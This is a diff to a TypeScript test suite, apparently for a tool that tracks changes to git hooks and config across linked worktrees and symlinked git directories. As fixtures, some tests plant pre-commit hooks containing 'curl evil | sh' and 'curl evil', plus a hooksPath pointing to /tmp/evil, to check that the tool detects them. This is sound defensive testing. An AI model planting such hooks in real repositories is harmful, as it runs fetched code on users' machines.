@@ -9,6 +9,7 @@ import assert from 'node:assert/strict';
 import {
   appendFileSync,
   cpSync,
+  existsSync,
   mkdirSync,
   readFileSync,
   renameSync,
@@ -69,13 +70,18 @@ function repository(dir: string): void {
   git(dir, 'commit', '-qm', 'lib');
 }
 
+/** A project with a linked worktree `wt` beside it, the main repository's git directory and the worktree's own. */
+function withWorktree(prefix: string): { p: Project; wt: string; common: string; own: string } {
+  const p = makeProject(prefix);
+  const wt = join(p.dir, 'wt');
+  git(p.root, 'worktree', 'add', '-q', wt);
+  const common = join(p.root, '.git');
+  return { p, wt, common, own: join(common, 'worktrees', 'wt') };
+}
+
 describe("git's own files where the tree's .git is a file", () => {
   it('a linked worktree: the common config and hooks, its config.worktree and its .git file are rows', async () => {
-    const p = makeProject('tally-git-dirs-worktree-');
-    const wt = join(p.dir, 'wt');
-    git(p.root, 'worktree', 'add', '-q', wt);
-    const common = join(p.root, '.git');
-    const own = join(common, 'worktrees', 'wt');
+    const { p, wt, common, own } = withWorktree('tally-git-dirs-worktree-');
     const { rows, pkg } = await session(p, wt, () => {
       writeFileSync(join(common, 'hooks', 'pre-commit'), '#!/bin/sh\ncurl evil | sh\n', { mode: 0o755 });
       appendFileSync(join(common, 'config'), '[core]\n\thooksPath = /tmp/evil\n');
@@ -94,10 +100,7 @@ describe("git's own files where the tree's .git is a file", () => {
   });
 
   it('a linked worktree whose .git file is pointed elsewhere: the places of the start are compared', async () => {
-    const p = makeProject('tally-git-dirs-repointed-');
-    const wt = join(p.dir, 'wt');
-    git(p.root, 'worktree', 'add', '-q', wt);
-    const common = join(p.root, '.git');
+    const { p, wt, common } = withWorktree('tally-git-dirs-repointed-');
     const other = join(p.dir, 'other');
     repository(other);
     const { rows } = await session(p, wt, () => {
@@ -131,6 +134,28 @@ describe("git's own files where the tree's .git is a file", () => {
       ['.git/info/exclude', 'modified'],
     ]);
     assert.equal(locationOf(pkg, '.git/hooks/pre-commit'), join(dir, 'hooks', 'pre-commit'));
+  });
+
+  it("a linked worktree whose git directory is reached through a link: its commondir's `..` leads where git takes it", async () => {
+    const { p, wt, common, own } = withWorktree('tally-git-dirs-commondir-link-');
+    assert.equal(readFileSync(join(own, 'commondir'), 'utf8'), '../..\n');
+    // `<link>/../..` read as written is the folder holding `side`; git resolves `..` past the link,
+    // from where the link leads, to the main repository.
+    const link = join(p.dir, 'side', 'wt');
+    mkdirSync(join(p.dir, 'side'));
+    symlinkSync(own, link);
+    writeFileSync(join(wt, '.git'), `gitdir: ${link}\n`);
+    assert.equal(git(wt, 'rev-parse', '--git-path', 'hooks').trim(), join(common, 'hooks'));
+    const ran = join(p.dir, 'ran');
+    const { rows, pkg } = await session(p, wt, () => {
+      writeFileSync(join(common, 'hooks', 'pre-commit'), `#!/bin/sh\ntouch ${ran}\n`, { mode: 0o755 });
+    });
+    assert.deepEqual(rows, [['.git/hooks/pre-commit', 'created']]);
+    assert.equal(locationOf(pkg, '.git/hooks/pre-commit'), join(common, 'hooks', 'pre-commit'));
+    // Recorded as git puts it together, resolved at each pass.
+    assert.deepEqual(baselineOf(pkg).git_dirs?.['.git'], { dir: link, common: `${link}/../..` });
+    git(wt, 'hook', 'run', 'pre-commit');
+    assert.ok(existsSync(ran), 'git runs the hook the receipt names');
   });
 });
 
@@ -266,6 +291,39 @@ describe("git's own files where a .git link leads, or a .git file names a path t
     assert.deepEqual(rows, [
       ['.git/hooks/pre-commit', 'created'],
       ['sub/b/.git/hooks/pre-commit', 'created'],
+    ]);
+  });
+
+  it('nested repositories whose git directory is named past a link: `..` after it leads where git takes it', async () => {
+    const p = makeProject('tally-git-dirs-dotdot-link-');
+    // sub/d's .git file names `<hop>/../d.git`, relative to sub/d: read as written, a d.git beside
+    // hop; git takes the parent of where hop leads.
+    const d = join(p.root, 'sub', 'd');
+    const real = join(p.dir, 'real');
+    const hop = join(p.dir, 'hop');
+    repository(d);
+    mkdirSync(join(real, 'deep'), { recursive: true });
+    renameSync(join(d, '.git'), join(real, 'd.git'));
+    symlinkSync(join(real, 'deep'), hop);
+    writeFileSync(join(d, '.git'), `gitdir: ${relative(d, hop)}/../d.git\n`);
+    assert.equal(git(d, 'rev-parse', '--git-path', 'hooks').trim(), join(real, 'd.git', 'hooks'));
+    // sub/w, a worktree of lib, has a .git link to a link to its git directory, whose commondir is `../..`.
+    const lib = join(p.dir, 'lib');
+    const w = join(p.root, 'sub', 'w');
+    repository(lib);
+    git(lib, 'worktree', 'add', '-q', w);
+    const side = join(p.dir, 'side');
+    symlinkSync(join(lib, '.git', 'worktrees', 'w'), side);
+    unlinkSync(join(w, '.git'));
+    symlinkSync(side, join(w, '.git'));
+    assert.equal(git(w, 'rev-parse', '--git-path', 'hooks').trim(), join(lib, '.git', 'hooks'));
+    const { rows } = await session(p, p.root, () => {
+      writeFileSync(join(real, 'd.git', 'hooks', 'pre-commit'), '#!/bin/sh\ncurl evil\n');
+      writeFileSync(join(lib, '.git', 'hooks', 'pre-commit'), '#!/bin/sh\ncurl evil\n');
+    });
+    assert.deepEqual(rows, [
+      ['sub/d/.git/hooks/pre-commit', 'created'],
+      ['sub/w/.git/hooks/pre-commit', 'created'],
     ]);
   });
 
